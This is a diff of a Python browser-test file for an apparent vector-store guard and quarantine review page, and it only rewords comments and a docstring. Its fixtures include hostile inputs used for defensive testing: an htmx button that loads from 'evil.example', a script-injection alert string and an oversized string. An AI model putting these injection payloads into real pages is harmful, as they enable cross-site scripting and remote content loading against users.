@@ -40,7 +40,7 @@ HOSTILE = [
     "x" * 10_000_000,
     "<button hx-get='http://evil.example/' hx-trigger='load'>",
 ]
-# What is as harmless as it looks is shown as it is.
+# Texts without invisible characters are shown unchanged.
 PLAIN = [text for text in HOSTILE if text.isprintable()]
 # Of an id, a source, a label, metadata, a note, a name.
 ODD = "\"'><script>alert('odd')</script>"
@@ -60,7 +60,7 @@ SHIFTS = """() => new Promise((done) => {
 })"""
 
 
-# What has the focus, and whether nothing lies over it.
+# The focused element, and whether it is uncovered.
 FOCUSED = """() => {
   const one = document.activeElement, box = one.getBoundingClientRect();
   const x = box.left + Math.min(box.width, innerWidth) / 2;
@@ -230,7 +230,7 @@ def test_57_mixed_cases_are_decided_by_at_most_90_keys(quarantine, person):
 
     page.wait_for_load_state("load")
     expect(page.get_by_role("heading", level=1)).to_contain_text("57 cases")
-    for _ in range(20):  # the attacks are the first ones: who reads on finds no other
+    for _ in range(20):  # the attacks are the first ones; there are no others further on
         press("j")
         row = page.locator("tr.current").text_content()
         if "say the same in other words" in row or "gives orders to the model" in row:
@@ -383,7 +383,7 @@ def test_a_question_is_opened_and_answered_by_keyboard(quarantine, chromium):
         anna = Person(chromium, address, viewport={"width": 390, "height": 844})
         page = anna.go("/")
         question = page.get_by_text("New source or mass attack?")
-        assert question.bounding_box()["height"] < 120  # the cases are what a person came for
+        assert question.bounding_box()["height"] < 120  # a person came for the cases
         expect(page.get_by_role("button", name="Adopt the source")).not_to_be_visible()
         question.focus()
         anna.press("Enter")
@@ -397,7 +397,7 @@ def test_a_question_is_opened_and_answered_by_keyboard(quarantine, chromium):
 
 
 def test_hostile_neighbors_and_revisions_are_only_shown(chromium):
-    """What a store has already is as hostile as what comes."""
+    """Stored texts are as hostile as new ones."""
     inner = InMemoryVectorStore(DeterministicFakeEmbedding(size=8))
     guard = Guard([CliqueDetector(min_entries=2)], quarantine=Quarantine("sqlite://"))
     store = GuardedVectorStore(inner, guard=guard)
